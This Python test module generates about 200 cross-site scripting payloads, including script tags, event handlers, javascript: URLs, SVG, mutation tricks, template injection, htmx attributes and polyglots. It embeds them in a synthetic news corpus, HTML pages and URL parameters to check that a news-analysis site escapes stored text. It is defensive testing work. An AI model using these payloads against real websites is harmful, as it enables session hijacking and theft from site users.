"""The XSS battery: about 200 payloads, and a corpus that carries them through the real ingest
into every place a page shows stored text (titles, bylines, outlet names, bodies, quotes and their
speakers, actor names, URLs), plus search queries and URL parameters.

Every payload that runs reports itself: it calls ``window.__xss(n)`` (or alert/confirm/prompt/
print, which the browser test replaces with counters), ``n`` being its number in `PAYLOADS`, so a
failure names the payload. Families follow the usual cheat sheets (OWASP, PortSwigger): script
tags, event handlers on many tags, script URLs with entity/whitespace/case tricks, SVG and MathML,
broken markup and mutation tricks, attribute breakouts, template injection, bidi overrides, CSS,
htmx attributes (including our own chart attribute), polyglots, and payloads split across two
fields that would only join up if the page concatenated them unescaped.
"""

from __future__ import annotations

import json
from dataclasses import dataclass
from datetime import date, timedelta
from pathlib import Path
from urllib.parse import quote

CALLS = ["window.__xss({n})", "alert({n})", "confirm({n})", "prompt({n})", "print({n})"]


def _script_tags() -> list[str]:
    return [
        "<script>window.__xss({n})</script>",
        "<SCRIPT>alert({n})</SCRIPT>",
        "<ScRiPt >confirm({n})</sCrIpT >",
        "<script src=data:,window.__xss({n})></script>",
        "<script>/*</script><script>*/window.__xss({n})</script>",
        "</title><script>window.__xss({n})</script>",
        "</textarea><script>window.__xss({n})</script>",
        "</script><script>window.__xss({n})</script>",
        '"><script>window.__xss({n})</script>',
        "'><script>window.__xss({n})</script>",
        "<scr<script>ipt>window.__xss({n})</scr</script>ipt>",
        "<<script>window.__xss({n})//<</script>",
        "<script\x0ctype=text/javascript>window.__xss({n})</script>",
        "<script>window['__x'+'ss']({n})</script>",
        "<script type=module>window.__xss({n})</script>",
        "<script>eval('window.__xss({n})')</script>",
        "<script>setTimeout('window.__xss({n})')</script>",
        "<noscript></noscript><script>window.__xss({n})</script>",
    ]


def _event_handlers() -> list[str]:
    call = "window.__xss({n})"
    return [
        f"<img src=x onerror={call}>",
        f'<img src="x" onerror="{call}">',
        f"<IMG SRC=x OnErRoR={call}>",
        f"<img src=x onerror\x0b={call}>",
        f"<img/src=x/onerror={call}>",
        f"<img src onerror={call}>",
        f"<image src=x onerror={call}>",
        f"<svg onload={call}>",
        f"<svg/onload={call}>",
        f"<body onload={call}>",
        f"<body onpageshow={call}>",
        f"<iframe onload={call}></iframe>",
        f"<iframe src=x onerror={call}></iframe>",
        f"<input autofocus onfocus={call}>",
        f"<input onblur={call} autofocus><input autofocus>",
        f"<select autofocus onfocus={call}></select>",
        f"<textarea autofocus onfocus={call}></textarea>",
        f"<keygen autofocus onfocus={call}>",
        f"<button autofocus onfocus={call}>b</button>",
        f"<details open ontoggle={call}>",
        f"<details/open/ontoggle={call}>",
        f"<video><source onerror={call}></video>",
        f"<video src=x onerror={call}></video>",
        f"<audio src=x onerror={call}></audio>",
        f"<marquee onstart={call}>m</marquee>",
        f"<object data=x onerror={call}></object>",
        f"<embed src=x onerror={call}>",
        f"<a onmouseover={call}>hover</a>",
        f"<a href=# onclick={call}>click</a>",
        f"<div onpointerover={call}>p</div>",
        f"<div onmouseenter={call}>e</div>",
        f"<span onfocusin={call} tabindex=1 autofocus>s</span>",
        f"<p onclick={call}>c</p>",
        f"<form onsubmit={call}><button>go</button></form>",
        f"<form><button formaction=javascript:{call}>x</button></form>",
        f"<style onload={call}></style>",
        f"<link rel=stylesheet href=x onerror={call}>",
        f"<table background=x onerror={call}>",
        f"<math><maction actiontype=statusline onmouseover={call}>m</maction></math>",
        f"<div style=animation-name:spin onanimationstart={call}></div>",
        f"<div ontransitionend={call}></div>",
        f"<x onbeforescriptexecute={call}>",
        f"<bdo dir=rtl onmouseover={call}>b</bdo>",
        f"<meter onmouseover={call}>0</meter>",
        "<img src=x:alert(alt) onerror=eval(src) alt={n}>",
        "<img src=1 onerror=&#x77;indow.__xss({n})>",
        '<img src=x onerror="&#119;&#105;&#110;&#100;&#111;&#119;.__xss({n})">',
        f"<svg><animate onbegin={call} attributeName=x dur=1s>",
        f"<svg><set onbegin={call} attributename=x to=1>",
        f"<input type=image src=x onerror={call}>",
        f"<isindex type=image src=1 onerror={call}>",
        f"<track src=x onerror={call}>",
    ]


def _script_urls() -> list[str]:
    call = "window.__xss({n})"
    urls = [
        f"javascript:{call}",
        f"JaVaScRiPt:{call}",
        f" javascript:{call}",
        f"\tjavascript:{call}",
        f"java\tscript:{call}",
        f"java\nscript:{call}",
        f"java&#x09;script:{call}",
        f"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;{call}",
        f"&#x6A;avascript&colon;{call}",
        f"javascript&#58;{call}",
        f"\x01javascript:{call}",
        f"javascript://%0a{call}",
        f"javascript:/*--></title></style></textarea></script><svg/onload={call}>",
        f"data:text/html,<script>{call}</script>",
        "data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3MoMSk8L3NjcmlwdD4=",
        f"data:image/svg+xml,<svg onload={call}>",
        "vbscript:msgbox({n})",
        "VBScript:MsgBox({n})",
        f"jav&#x0A;ascript:{call}",
        f"javascript\u200b:{call}",
    ]
    out: list[str] = []
    for url in urls:
        out.append(url)  # the bare URL (also used as an article's url field)
        out.append(f'<a href="{url}">click {{n}}</a>')
    out.append(f"<iframe src=javascript:{call}></iframe>")
    out.append('<iframe srcdoc="&lt;script&gt;parent.__xss({n})&lt;/script&gt;"></iframe>')
    out.append(f"<object data=javascript:{call}></object>")
    out.append(f"<embed src=javascript:{call}>")
    out.append(f"<base href=javascript:{call}//>")
    out.append(f'<meta http-equiv="refresh" content="0;url=javascript:{call}">')
    return out


def _svg_math() -> list[str]:
    call = "window.__xss({n})"
    return [
        f"<svg><script>{call}</script></svg>",
        f"<svg><script href=data:,{call} />",
        f'<svg><a xlink:href="javascript:{call}"><text x=20 y=20>svg link</text></a></svg>',
        f'<svg><a href="javascript:{call}"><rect width=10 height=10 /></a></svg>',
        f"<svg><foreignObject><iframe src=javascript:{call}></iframe></foreignObject></svg>",
        f"<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>"
        f"<image href='1' onerror='{call}' /></svg>#x\" />",
        f"<svg><style><img src=x onerror={call}></style></svg>",
        f"<math><mtext><table><mglyph><style><img src=x onerror={call}></style></mglyph>"
        "</table></mtext></math>",
        f"<math href=javascript:{call}>math</math>",
        f"<svg><handler xmlns:ev=http://www.w3.org/2001/xml-events ev:event=load>{call}"
        "</handler></svg>",
        f"<svg><title><![CDATA[</title><script>{call}</script>]]></title></svg>",
        f"<svg><discard onbegin={call}>",
    ]


def _broken_markup() -> list[str]:
    call = "window.__xss({n})"
    return [
        f"<img src=x onerror={call}//",
        f'<img """><script>{call}</script>">',
        f'<!--<img src="--><img src=x onerror={call}//">',
        f'<noscript><p title="</noscript><img src=x onerror={call}>">',
        f'<style><img src="</style><img src=x onerror={call}//">',
        f'<a href="javascript:{call}',
        f"<![CDATA[<script>{call}</script>]]>",
        f"<xmp><script>{call}</script></xmp>",
        f"<plaintext><script>{call}</script>",
        f"<title><img src=x onerror={call}></title>",
        f"<textarea><img src=x onerror={call}></textarea>",
        f"<iframe><img src=x onerror={call}></iframe>",
        f'<div id="</div><img src=x onerror={call}>">',
        f"<img src=`x`onerror={call}>",
        f'<a href="""onmouseover={call}>x</a>',
        f"<img src=x onerror={call} <b>unclosed",
        f"<</p>img src=x onerror={call}>",
        f"<img\x00src=x onerror={call}>",
    ]


def _attribute_breakouts() -> list[str]:
    call = "window.__xss({n})"
    return [
        f'" onmouseover="{call}',
        f"' onmouseover='{call}",
        f'" autofocus onfocus="{call}" x="',
        f"' autofocus onfocus='{call}' x='",
        f'"><img src=x onerror={call}>',
        f"'><svg onload={call}>",
        f"`onerror={call}",
        f'" style="x:expression({call})',
        f'\\" onerror=\\"{call}',
        f"&quot; onerror=&quot;{call}",
        f"&#34; onfocus=&#34;{call}&#34; autofocus=&#34;",
        f'"/><script>{call}</script>',
        f'" hx-get="/" hx-trigger="load" hx-on::after-request="{call}',
        '" data-vl-spec=\'{{"mark":"text"}}\' x="',
        f'x" href="javascript:{call}',
        f'" src="javascript:{call}',
        f"x onerror={call}",
        f'"onfocus="{call}"autofocus="',
        f"</a><a href=javascript:{call}>",
        f"'\"></span><img src=x onerror={call}><span>",
    ]


def _templates() -> list[str]:
    return [
        "{{{{7*7}}}}",
        "${{7*7}}",
        "#{{7*7}}",
        "<%= 7*7 %>",
        "[[7*7]]",
        "{{{{config}}}}",
        "{{{{request.application.__globals__}}}}",
        "{{% raw %}}{{{{7*7}}}}{{% endraw %}}",
        "{{{{constructor.constructor('window.__xss({n})')()}}}}",
        "{{{{$on.constructor('window.__xss({n})')()}}}}",
        "${{alert({n})}}",
        "`${{window.__xss({n})}}`",
        "{{{{'a'.constructor.prototype.charAt=[].join;$eval('x=alert({n})');}}}}",
        "<div ng-app ng-csp><input autofocus ng-focus=$event.view.alert({n})></div>",
        "<div v-html=\"'<img src=x onerror=alert({n})>'\"></div>",
        "%7B%7B7*7%7D%7D",
    ]


def _bidi_invisible() -> list[str]:
    call = "window.__xss({n})"
    return [
        f"\u202e{call}\u202c",
        "Report\u202egnp.exe {n}",
        f"\u2066<script>{call}</script>\u2069",
        f"\u202d<img src=x onerror={call}>\u202c",
        f"java\u200bscript:{call}",
        f"\ufeff<script>{call}</script>",
        f"<img src=x onerror\u00a0={call}>",
        f"\u2028<script>{call}</script>\u2029",
        f"<scr\u0131pt>{call}</scr\u0131pt>",
        f"\uff1cscript\uff1e{call}\uff1c/script\uff1e",
    ]


def _css() -> list[str]:
    call = "window.__xss({n})"
    return [
        f'<style>body{{{{background:url("javascript:{call}")}}}}</style>',
        f'<div style="background:url(javascript:{call})">css</div>',
        f'<div style="width:expression({call})">css</div>',
        f"<style>@import 'javascript:{call}';</style>",
        f"<link rel=stylesheet href=javascript:{call}>",
        f"</style><script>{call}</script>",
        f"<style>*{{{{x:expression({call})}}}}</style>",
        f'<div style="behavior:url(#default#time2)" onbegin="{call}">',
        "<style>@keyframes x{{{{}}}}</style><div style=animation-name:x "
        f"onanimationstart={call}></div>",
        f'<p style="-moz-binding:url(data:text/xml,{call})">',
    ]


def _htmx() -> list[str]:
    call = "window.__xss({n})"
    return [
        f'<div hx-get="/api/v1/docs" hx-trigger="load" hx-on::after-request="{call}">h</div>',
        f'<a hx-on:click="{call}">click</a>',
        f'<div hx-on="htmx:load: {call}">h</div>',
        f'<img src=x hx-on::error="{call}">',
        '<div hx-post="/actors/merge" hx-trigger="load">h</div>',
        f"<div hx-vals='js:{{{{a:{call}}}}}' hx-get=/ hx-trigger=load>h</div>",
        f"<div hx-headers='js:{{{{x:{call}}}}}' hx-get=/ hx-trigger=load>h</div>",
        '<div data-hx-get="https://evil.example/" data-hx-trigger="load">h</div>',
        '<div hx-swap-oob="true" id="main">replaced</div>',
        f'<div hx-get="/" hx-trigger="load" hx-swap="innerHTML" hx-target="body" '
        f'hx-on:htmx:after-swap="{call}">h</div>',
        '<div data-vl-spec=\'{{"mark":"text","encoding":{{"text":{{"signal":'
        '"window.__xss({n})"}}}}}}\'></div>',
        '<div data-vg-spec=\'{{"signals":[{{"name":"x","init":"alert({n})"}}]}}\'></div>',
        '<button data-copy="x" hx-get="/" hx-trigger="click">copy</button>',
        f'<form hx-post="/" hx-trigger="load"><input name=x value="{call}"></form>',
        '<div hx-boost="true"><a href="javascript:window.__xss({n})">boosted</a></div>',
        f'<template><img src=x onerror="{call}"></template>',
    ]


def _polyglots() -> list[str]:
    return [
        "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert({n}) )//%0D%0A%0d%0a//</stYle/"
        "</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert({n})//>\\x3e",
        "'\"--></style></script><script>window.__xss({n})</script>",
        "\"'><img src=x onerror=window.__xss({n})>{{{{7*7}}}}${{7*7}}<!--",
        '-->\'"/></sCript><deTailS open x=">" onToggle=window.__xss({n})>',
        "'\"</Script><Html Onmouseover=(confirm)({n})//<Svg/Onload=(window.__xss)({n})>",
    ]


#: Two halves that only become live markup if a page glues two fields together unescaped.
SPLIT_PAIRS = [
    ("<img src=x ", "onerror=window.__xss({n})>"),
    ("<script>", "window.__xss({n})</script>"),
    ('<a href="javascript:', 'window.__xss({n})">x</a>'),
    ("<svg onload=window.__xss({n}) ", "/>"),
    ('" onmouseover="', 'window.__xss({n})"'),
    ("<iframe src=javascript:", "window.__xss({n})></iframe>"),
    ("<details open ", "ontoggle=window.__xss({n})>"),
    ("<!--", "--><img src=x onerror=window.__xss({n})>"),
]


def _build() -> list[str]:
    templates = [
        *_script_tags(),
        *_event_handlers(),
        *_script_urls(),
        *_svg_math(),
        *_broken_markup(),
        *_attribute_breakouts(),
        *_templates(),
        *_bidi_invisible(),
        *_css(),
        *_htmx(),
        *_polyglots(),
    ]
    out = []
    for n, template in enumerate(templates):
        payload = template.format(n=n)
        # vary the sink a payload calls, so overriding one function is not the whole guard
        if n % 7 == 3 and "window.__xss(" in payload:
            payload = payload.replace(
                "window.__xss(", CALLS[1 + n % 4][: CALLS[1 + n % 4].index("(") + 1]
            )
        out.append(payload)
    return out


PAYLOADS: list[str] = _build()
#: The split pairs, numbered after the single payloads.
SPLITS: list[tuple[str, str]] = [
    (a.format(n=len(PAYLOADS) + i), b.format(n=len(PAYLOADS) + i))
    for i, (a, b) in enumerate(SPLIT_PAIRS)
]
#: Speakers and actors: real-looking names around markup, so NER and the quote rules keep them.
SPEAKERS = [
    "John <img src=x onerror=window.__xss({n})> Smith",
    'Ahmad "><script>window.__xss({n})</script> Karimi',
    'Maria O\'Neil" onmouseover="window.__xss({n})',
    "Omar <svg onload=window.__xss({n})> Farooq",
    "Sarah {{{{7*7}}}} Hamidi",
    "Hamid \u202eKarzai\u202c <b>Jr</b>",
]
#: Outlets the corpus rotates through: names with markup, quotes, slashes and URL syntax.
OUTLETS = [
    "Border <script>window.__xss({n})</script> Times",
    'Kabul "Ledger" <img src=x onerror=window.__xss({n})>',
    "Frontier/../../Monitor?x=<svg onload=window.__xss({n})>",
    "Daily ' onmouseover='window.__xss({n})",
    "Herald {{{{7*7}}}} ${{7*7}}",
    "Post \u202eeciffO\u202c javascript:window.__xss({n})",
    "Wire #<details open ontoggle=window.__xss({n})>",
    "News & Views &amp; <b>bold</b> %3Cscript%3E",
]
PLACES = ["Kabul", "Quetta", "Peshawar", "Kandahar", "Torkham", "Chaman", "Zahedan", "Herat"]
OFFICIALS = ["Zabihullah Mujahid", "Shehbaz Sharif", "Amir Khan Muttaqi", "Ishaq Dar"]


@dataclass
class Battery:
    """What was written: the files, the payload count, and how many articles carry each field."""

    folder: Path
    payloads: int
    articles: int
    files: list[Path]


def _fmt(template: str, n: int) -> str:
    return template.format(n=n)


def _body(i: int, payload: str, group: int, day: date) -> str:
    """News-like text (so the cleaner, NER, quote and event stages keep it) with the payload in a
    paragraph, in a direct quote, next to a payload speaker, and in an indirect quote."""
    place = PLACES[group % len(PLACES)]
    official = OFFICIALS[group % len(OFFICIALS)]
    speaker = _fmt(SPEAKERS[i % len(SPEAKERS)], i)
    shared = [
        f"{place.upper()} -- Officials from Afghanistan and Pakistan met in {place} on "
        f"{day.strftime('%B')} {day.day} to discuss the reopening of the border crossing, "
        f"where trucks have waited for {3 + group % 5} days, round {group} of the talks.",
        f"{official} said the two sides had agreed to form a joint commission on trade and "
        f"refugees, and that the commission would meet again in {PLACES[(group + 3) % 8]}.",
        f'"We will reopen the crossing for traders and returnees," {official} told reporters '
        f"after the meeting, adding that customs officers would work extra shifts.",
    ]
    own = [
        f"A local trader, speaking of the delay, described it as {payload} in a message "
        f"shared widely, item {i}.",
        f'"{payload} The talks were useful," said {speaker}.',
        f"{speaker} said that the border would stay open for returnees {payload}.",
        f"According to {speaker}, the queues at the crossing stretched for kilometres.",
    ]
    return "\n\n".join([*shared, *own])


def write_battery(folder: Path) -> Battery:
    """JSON Lines records (one per payload and per split pair) and a few HTML pages, grouped in
    fours around one event each so the payload articles also form stories, storylines, copies,
    quotes, events and actors. Returns what was written."""
    folder.mkdir(parents=True, exist_ok=True)
    start = date(2024, 5, 1)
    records: list[dict[str, object]] = []
    items = [(p, p) for p in PAYLOADS] + list(SPLITS)
    for i, (first, second) in enumerate(items):
        group = i // 4
        day = start + timedelta(days=group % 40)
        payload = first if first == second else first + second
        if first.lstrip().lower().startswith(("javascript", "jav", "data:", "vbscript", "\x01")):
            url = first
        else:
            url = f"https://news.example/{group}/{i}?q={first}"
        record: dict[str, object] = {
            "title": f"Border talks resume in {PLACES[group % 8]} ({i}) {first}",
            "author": second if first != second else f"Staff {first}",
            "outlet": _fmt(OUTLETS[i % len(OUTLETS)], i),
            "url": url,
            "date": day.isoformat(),
            "language": "en",
            "text": _body(i, payload, group, day),
        }
        if i % 5 == 0:
            record["author"] = f"By {_fmt(SPEAKERS[i % len(SPEAKERS)], i)}"
        records.append(record)
    files = [folder / "battery.jsonl"]
    with files[0].open("w", encoding="utf-8") as fh:
        for record in records:
            fh.write(json.dumps(record, ensure_ascii=False) + "\n")
    for k, payload in enumerate(PAYLOADS[:: max(1, len(PAYLOADS) // 20)]):
        n = PAYLOADS.index(payload)
        day = start + timedelta(days=50 + k)
        path = folder / f"page-{k:02d}.html"
        path.write_text(_html_page(n, payload, k, day), encoding="utf-8")
        files.append(path)
    return Battery(folder, len(PAYLOADS) + len(SPLITS), len(records) + len(files) - 1, files)


def _html_page(n: int, payload: str, k: int, day: date) -> str:
    """An article page whose <title> (raw text there), meta tags and body carry the payload,
    as escaped text and as live markup the extractor must drop or neutralise."""
    escaped = payload.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    attr = escaped.replace('"', "&quot;")
    place = PLACES[k % len(PLACES)]
    paras = _body(n, escaped, 100 + k, day).split("\n\n")
    return (
        "<!DOCTYPE html><html><head>"
        f"<title>Dam talks in {place} {k} {payload.replace('</title', '')} | Payload Post</title>"
        f'<meta property="og:site_name" content="Payload Post {attr}">'
        f'<meta name="author" content="{attr}">'
        f'<meta property="article:published_time" content="{day.isoformat()}">'
        f'<link rel="canonical" href="https://payload.example/{k}/{quote(payload)}">'
        "</head><body><article>"
        f"<h1>Dam talks in {place} {k} {escaped}</h1>"
        + "".join(f"<p>{p}</p>" for p in paras)
        + f"<p>Live markup follows: {payload} and a "
        f'<a href="javascript:window.__xss({n})">link</a> and '
        f"<img src=x onerror=window.__xss({n})> end of article {k}.</p>"
        "</article></body></html>"
    )


def search_queries() -> list[str]:
    """Payloads typed into the search box: every tenth payload, the split pairs joined, and a
    few that also exercise the BM25 syntax parser."""
    picked = PAYLOADS[::10] + [a + b for a, b in SPLITS[:3]]
    return [*picked, '"<script>window.__xss(900)</script>" OR border', 'border NOT "><svg onload']


def query_urls(listings: list[str]) -> list[str]:
    """Listing pages with a payload in every parameter they might read, and detail pages with a
    payload as the id (their 404 pages echo it)."""
    out: list[str] = []
    params = (
        "q",
        "outlet",
        "agency",
        "language",
        "actor",
        "place",
        "story",
        "since",
        "until",
        "cursor",
        "sort",
        "limit",
        "type",
        "kind",
        "role",
    )
    for k, listing in enumerate(listings):
        payload = PAYLOADS[(k * 13) % len(PAYLOADS)]
        query = "&".join(f"{p}={quote(payload)}" for p in params)
        out.append(f"{listing}?{query}")
        out.append(f"{listing}/{quote(payload, safe='')}")
    return out
